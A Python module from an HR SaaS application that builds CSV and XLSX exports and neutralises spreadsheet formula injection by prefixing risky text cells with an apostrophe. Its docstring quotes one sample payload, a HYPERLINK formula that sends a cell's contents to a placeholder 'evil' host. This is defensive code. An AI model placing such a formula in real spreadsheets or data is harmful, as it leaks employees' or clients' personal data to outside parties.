"""THE writer of spreadsheet exports (CSV and XLSX): every text cell is made inert.

People open our exports in Excel/WPS. A text cell that starts with =, +, -, @, a tab or a
carriage return — or their full-width forms ＝＋－＠, which WPS and Excel with a Chinese IME
treat the same — is run as a formula (`=HYPERLINK("http://evil/?"&A2, "点击")`). An employee's
name or a client's name is typed by people we do not control, so every text cell written by
an export gets a leading apostrophe when it starts with one of those characters. Numbers,
dates and Decimals stay typed values (sums still work), and a text that is a plain number
("-5.00") stays as it is.

Every export builds its file here: `csv_bytes(rows)`, `Sheet` and, for a table with a header
row, `table_response`. A test keeps `openpyxl.Workbook(` and `csv.writer(` out of every other
module (tests/security/test_export_escaping.py).

Typed values are written by the one rule for files meant for people (hrsaas/core/formatting.py
states it): pass a Decimal for money, a date for a day, a `Period` for a month and None for
nothing, and every file reads alike — in a CSV 1,200.00, 2026-11-15 and 2026年11月 / November
2026; in an XLSX a number (#,##0.00), a date cell (yyyy-mm-dd) and a month cell. A file read by
another system (bank batch, payroll import, import templates) passes its machine columns as the
text that system needs, which is written as it is. tests/platform/test_people_files.py walks
every file for people and holds them to the rule.
"""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from collections.abc import Iterable, Sequence
from decimal import Decimal

from hrsaas.core import formatting
from hrsaas.core.period import Period

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:,\d{3})*(?:\.\d+)?")


# Control characters an XLSX (XML 1.0) cannot hold: openpyxl refuses a cell holding one, so a
# single client or employee name typed with one (only NUL is refused at input) would make every
# export listing it fail. They carry nothing readable: dropped from every cell, before the
# formula check (so "\x01=HYPERLINK(…)" is escaped like "=HYPERLINK(…)").
_UNWRITABLE = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_SHEET_NAME_FORBIDDEN = re.compile(r"[\\/*?:\[\]\x00-\x1f]")


def safe_cell(value):
    """`value` as a cell a spreadsheet will not run: text starting with a formula character gets
    a leading apostrophe; anything that is not text is returned unchanged."""
    if isinstance(value, str):
        value = _UNWRITABLE.sub("", value)
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def csv_bytes(rows: Iterable[Sequence]) -> bytes:
    """A CSV in UTF-8 with BOM (what Excel in China opens without garbling), every cell escaped,
    typed values in the files' forms (`formatting.file_text`)."""
    out = io.StringIO()
    writer = csv.writer(out)
    for row in rows:
        writer.writerow(safe_row(formatting.file_text(v) for v in row))
    return ("\ufeff" + out.getvalue()).encode("utf-8")


class Sheet:
    """One worksheet of a new workbook whose `append` escapes every cell. `ws` is the openpyxl
    worksheet for styling (fonts, number formats, widths) — write values through `append`."""

    def __init__(self, title: str):
        from openpyxl import Workbook

        self._workbook = Workbook()
        self.ws = self._workbook.active
        # Excel's limit on a sheet name, without the characters a sheet name cannot hold (openpyxl
        # refuses them): a title made of a person's name must not stop their file.
        self.ws.title = _SHEET_NAME_FORBIDDEN.sub("_", title)[:31] or "Sheet"

    def append(self, values: Iterable) -> None:
        """A row; money, dates, times and months become typed cells in the files' formats
        (a writer may set another format on a cell afterwards, e.g. a rate's 0.00)."""
        cells, formats = [], {}
        for i, value in enumerate(values, start=1):
            value, formats[i] = _typed(value)
            cells.append(value)
        self.ws.append(safe_row(cells))
        row = self.ws.max_row
        for column, number_format in formats.items():
            if number_format:
                self.ws.cell(row=row, column=column).number_format = number_format

    def fit_columns(self, *, low: int = 8, high: int = 48) -> None:
        """Each column as wide as its longest value (a CJK character counts two), unless the
        writer set a width: Excel's default shows 68,030.76 or 2026-10-05 as ######## and cuts
        names and ID numbers."""
        from openpyxl.utils import get_column_letter

        widths: dict[int, int] = {}
        for row in self.ws.iter_rows():
            if self.ws.max_column > 1 and sum(cell.value is not None for cell in row) == 1:
                continue  # a title line: it may run over the next cells
            for cell in row:
                if cell.value is None:
                    continue
                if isinstance(cell.value, (Decimal, float, int)) and not isinstance(cell.value, bool):
                    text = f"{cell.value:,.2f}"
                elif isinstance(cell.value, (dt.date, dt.datetime)):
                    text = "2026-12-31 23:59" if "h" in (cell.number_format or "") else "2026-12-31"
                    if "年" in (cell.number_format or ""):  # a month as people read it
                        text = "2026年12月"
                    elif "mmmm" in (cell.number_format or ""):
                        text = "September 2026"
                else:
                    text = str(cell.value)
                width = sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in text) + 2
                widths[cell.column] = max(widths.get(cell.column, 0), width)
        for column, width in widths.items():
            letter = get_column_letter(column)
            if letter not in self.ws.column_dimensions:  # (looking one up would make it)
                self.ws.column_dimensions[letter].width = max(low, min(high, width))

    def bytes(self) -> bytes:
        self.fit_columns()
        buf = io.BytesIO()
        self._workbook.save(buf)
        return buf.getvalue()


def _typed(value) -> tuple[object, str | None]:
    """A value as an XLSX cell holds it, and the cell's number format (the files' rule)."""
    if isinstance(value, Period):
        return dt.datetime(value.year, value.month, 1), formatting.xlsx_month_format()
    if isinstance(value, Decimal):
        return value, formatting.XLSX_MONEY
    if isinstance(value, dt.datetime):
        # Asia/Shanghai wall time (openpyxl refuses an aware datetime; a file has no time zone).
        from django.utils import timezone

        local = timezone.localtime(value) if timezone.is_aware(value) else value
        return local.replace(tzinfo=None), formatting.XLSX_DATETIME
    if isinstance(value, dt.date):
        return value, formatting.XLSX_DATE
    return value, None


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
FORMATS = ("csv", "xlsx")


def table_response(*, fmt: str, filename: str, title: str, headers: list[str], rows):
    """A table for people — `headers` in the reader's words, then `rows` of text, int, Decimal
    (money), date, `Period` (month) or None — as a CSV (UTF-8 with BOM, which Excel in China opens
    correctly) or XLSX download, in the files' forms (see the module docstring). Named
    `filename`.csv|xlsx for every browser and `title` for those that read RFC 5987."""
    from django.http import HttpResponse

    if fmt == "xlsx":
        from openpyxl.styles import Font

        sheet = Sheet(title)
        sheet.append(headers)
        for cell in sheet.ws[1]:
            cell.font = Font(bold=True)
        for row in rows:
            sheet.append(row)
        body, content_type = sheet.bytes(), XLSX_CONTENT_TYPE
    else:
        body, content_type = csv_bytes([headers, *rows]), CSV_CONTENT_TYPE
    response = HttpResponse(body, content_type=content_type)
    name_attachment(response, filename, title, fmt)
    return response


_NOT_IN_FILE_NAMES = re.compile(r'[\\/:*?"<>|\x00-\x1f]')


def readable_file_name(*parts: str) -> str:
    """People's words joined into a file name ("银行代发文件-北京分公司-2026年10月"): what Windows
    or macOS cannot hold in a name (and quotes) becomes "_"."""
    return "-".join(_NOT_IN_FILE_NAMES.sub("_", str(p)).strip() for p in parts if p)


def name_attachment(response, ascii_name: str, readable: str, fmt: str) -> None:
    """A download's name: the readable one (Chinese, or English when switched) for the browsers
    that read RFC 6266's filename*, the ASCII one for the rest."""
    from urllib.parse import quote

    response["Content-Disposition"] = (f'attachment; filename="{ascii_name}.{fmt}"; '
                                       f"filename*=UTF-8''{quote(readable)}.{fmt}")
